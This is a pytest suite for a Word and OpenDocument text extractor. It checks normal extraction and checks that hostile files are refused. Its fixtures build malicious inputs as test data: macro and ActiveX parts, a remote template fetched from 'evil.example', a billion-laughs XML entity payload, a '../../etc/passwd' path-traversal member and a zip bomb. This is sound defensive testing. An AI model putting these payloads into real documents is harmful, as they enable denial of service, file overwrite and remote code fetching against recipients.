"""Word and OpenDocument files through the process apart: real ones, and those that somebody made to do harm."""

import base64
import io
import zipfile

import pytest

from accord.paper.documents import TakesLong, UnreadableDocument
from accord.paper.extract import extract
from accord.paper.sniff import sniff
from accord.paper.tests.office import changed, made, with_body

KINDS = pytest.mark.parametrize("kind", ["docx", "odt"])
PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
DRAWING = 'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
WORD_BOX = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p><w:r>'
    "<w:t>Phones are banned</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
)
ODT_BOX = (
    f'<text:p><draw:frame {DRAWING} text:anchor-type="paragraph"><draw:text-box><text:p>Phones are banned</text:p>'
    "</draw:text-box></draw:frame></text:p>"
)


def read(raw, kind):
    assert sniff(raw, f"policy.{kind}") == kind
    return extract(raw, kind)


@KINDS
@pytest.mark.clause("F.1")
def test_headings_lists_tables_and_notes_are_kept(kind):
    document = read(made(kind), kind)
    html = "\n".join(page.html for page in document.pages)
    for part in (
        "<p>Everybody who <strong>works</strong> for the school. [1] Water is H<sub>2</sub>O, and 10<sup>2</sup> is",
        "<li><p>Volunteers <em>too</em>.</p></li>",
        '<ol type="a">',
        '<th scope="col">Where</th>',
        "<td>Yard</td>",
        'role="region" aria-label="Table 1"',
        'href="https://example.org/a"',
    ):
        assert part in html
    assert "/s/somewhere/" not in html
    assert "A map of the school" in html
    assert [(heading.title, heading.level) for heading in document.contents][-2:] in (
        [("Who this is for", 3), ("Photographs", 4)],
        [("Who this is for", 2), ("Photographs", 3)],
    )


def test_what_word_calls_title_and_subtitle_stays_in_the_text():
    document = read(made("docx"), "docx")
    assert document.title == "Mobile phones"
    assert document.pages[0].html.startswith('<h2 id="part-mobile-phones">Mobile phones</h2>\n<p>For staff and')


@KINDS
def test_the_same_file_gives_the_same_text(kind):
    assert read(made(kind), kind) == read(made(kind), kind)


def test_a_picture_is_named_in_its_place(tmp_path):
    picture = tmp_path / "map.png"
    picture.write_bytes(PICTURE)
    word = made("docx", f"Here: ![The yard]({picture}) it is.")
    frame = f'<draw:frame {DRAWING}><draw:image xlink:href="Pictures/0.png"/><svg:title>{{}}</svg:title></draw:frame>'
    odt = with_body(made("odt", "Map"), f"<text:p>Here: {frame.format('The yard')} it is.</text:p>")
    for raw, kind in ((word, "docx"), (odt, "odt")):
        page = read(raw, kind).pages[-1]
        assert "here: [picture: the yard] it is." in page.html.lower()
        assert "<img" not in page.html


def test_bold_lines_are_headings_where_there_are_no_others():
    document = read(made("docx", "**Passwords**\n\nKeep them.\n\n**Not one.**\n"), "docx")
    assert [heading.title for heading in document.contents] == ["Passwords"]


def test_a_long_document_is_left_to_whoever_has_time():
    text = "\n\n".join(f"# Part {number}\n\n" + "Some words of a policy. " * 60 for number in range(60))
    for kind in ("docx", "odt"):
        with pytest.raises(TakesLong):
            extract(made(kind, text), kind)
    heard = []
    document = extract(made("docx", text), "docx", tell=lambda done, total: heard.append((done, total)))
    assert len(document.pages) == 30
    assert heard[0][0] == 0
    assert heard[-1][0] == heard[-1][1]


def add(name, content=b"x"):
    return lambda raw: changed(raw, {name: content})


def relation(kind, target):
    line = f'<Relationship Id="rX" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    end = b"</Relationships>"
    return lambda raw: changed(
        raw, {"word/_rels/document.xml.rels": lambda content: content.replace(end, line.encode() + end)}
    )


def body(xml):
    return lambda raw: with_body(raw, xml)


def twice(raw):
    out = io.BytesIO(raw)
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", b"<another/>")
    return out.getvalue()


def locked(raw):
    """With the flag that says that a member is encrypted."""
    out = bytearray(raw)
    at = out.index(b"PK\x01\x02")
    out[at + 8] |= 1
    return bytes(out)


def bomb(raw):
    out = io.BytesIO(raw)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(5):
            archive.writestr(f"word/media/{number}.png", bytes(50 * 2**20))
    return out.getvalue()


SHAPE = f"<draw:custom-shape {DRAWING}><text:p>Phones are banned</text:p></draw:custom-shape>"
INSERTED = '<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>added</w:t></w:r></w:ins></w:p>'
COMMENT = b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment w:id="1"/></w:comments>'
BILLION = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
MACRO_TYPE = b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'  # noqa: E501

HOSTILE_WORD = [
    pytest.param(add("word/vbaProject.bin"), "holds macros", id="macros"),
    pytest.param(add("[Content_Types].xml", MACRO_TYPE), "holds macros", id="docm called docx"),
    pytest.param(add("word/activeX/activeX1.bin"), "holds macros", id="ActiveX"),
    pytest.param(add("word/embeddings/oleObject1.bin"), "Another file lies inside", id="embedded file"),
    pytest.param(relation("attachedTemplate", "https://evil.example/t.dotm"), "fetches something", id="remote template"),
    pytest.param(relation("aFChunk", "chunk.html"), "takes in text from another", id="another text"),
    pytest.param(body(INSERTED), "tracked changes", id="tracked changes"),
    pytest.param(add("word/comments.xml", COMMENT), "has comments", id="comments"),
    pytest.param(body(WORD_BOX), "for example “Phones are banned”", id="text box"),
    pytest.param(body('<w:p><w:fldSimple w:instr="REF x"><w:r><w:t>Lost</w:t></w:r></w:fldSimple></w:p>'), "“Lost”", id="field"),
    pytest.param(add("word/document.xml", BILLION), "damaged", id="a billion laughs"),
    pytest.param(add("word/document.xml", b"<w:document"), "damaged", id="broken XML"),
    pytest.param(add("word/document.xml", b"<a>" * 600), "deep in each other", id="too deep"),
    pytest.param(add("../../etc/passwd"), "damaged", id="a path out of it"),
    pytest.param(twice, "damaged", id="two texts in one"),
    pytest.param(locked, "locked with a password", id="locked member"),
    pytest.param(bomb, "unpacks to more than 200 MB", id="zip bomb"),
    pytest.param(lambda raw: raw[: len(raw) // 2], "damaged", id="cut off"),
]  # fmt: skip
HOSTILE_ODT = [
    pytest.param(add("Basic/Standard/Module1.xml"), "holds macros", id="Basic"),
    pytest.param(add("Scripts/python/evil.py"), "holds macros", id="script"),
    pytest.param(body('<script:event-listener xmlns:script="urn:x"/>'), "holds macros", id="event"),
    pytest.param(
        add("META-INF/manifest.xml", b"<manifest:encryption-data/>"), "locked with a password", id="locked"
    ),
    pytest.param(body("<text:p>a<office:annotation><text:p>b</text:p></office:annotation></text:p>"), "comments", id="comment"),
    pytest.param(
        body("<text:tracked-changes><text:changed-region/></text:tracked-changes>"), "tracked changes", id="changes"
    ),
    pytest.param(body(SHAPE), "Phones are banned", id="shape"),
    pytest.param(add("content.xml", BILLION), "damaged", id="a billion laughs"),
    pytest.param(lambda raw: raw[: len(raw) // 2], "damaged", id="cut off"),
    pytest.param(bomb, "unpacks to more than 200 MB", id="zip bomb"),
]  # fmt: skip


@pytest.mark.parametrize(("make", "told"), HOSTILE_WORD)
def test_a_word_file_that_nobody_should_sign_is_refused_with_the_reason(make, told):
    with pytest.raises(UnreadableDocument, match=told):
        extract(make(made("docx")), "docx")


@pytest.mark.parametrize(("make", "told"), HOSTILE_ODT)
def test_an_open_document_that_nobody_should_sign_is_refused_with_the_reason(make, told):
    with pytest.raises(UnreadableDocument, match=told):
        extract(make(made("odt")), "odt")


@KINDS
def test_an_empty_document_is_refused(kind):
    with pytest.raises(UnreadableDocument, match="no text"):
        extract(made(kind, " "), kind)


def test_a_text_in_a_control_or_a_list_of_contents_is_no_loss():
    contents = '<w:p><w:pPr><w:pStyle w:val="TOC1"/></w:pPr><w:r><w:t>Photographs 7</w:t></w:r></w:p>'
    control = "<w:sdt><w:sdtContent><w:p><w:r><w:t>In a control</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    assert "In a control" in extract(with_body(made("docx"), contents + control), "docx").pages[0].text


@pytest.mark.parametrize(
    ("raw", "name", "told"),
    [
        pytest.param(made("docx"), "policy.odt", "a Word document, but it is called .odt", id="docx called odt"),
        pytest.param(made("odt"), "policy.docx", "an OpenDocument text, but it is called .docx", id="odt called docx"),
        pytest.param(made("docx"), "policy.pdf", "called PDF, but it is none", id="docx called pdf"),
        pytest.param(made("docx"), "policy.docm", "hold macros", id="docm"),
        pytest.param(b"# Policy", "policy.docx", "called .docx, but it is none", id="text called docx"),
    ],
)
def test_a_wrong_name_is_noticed(raw, name, told):
    with pytest.raises(UnreadableDocument, match=told):
        sniff(raw, name)
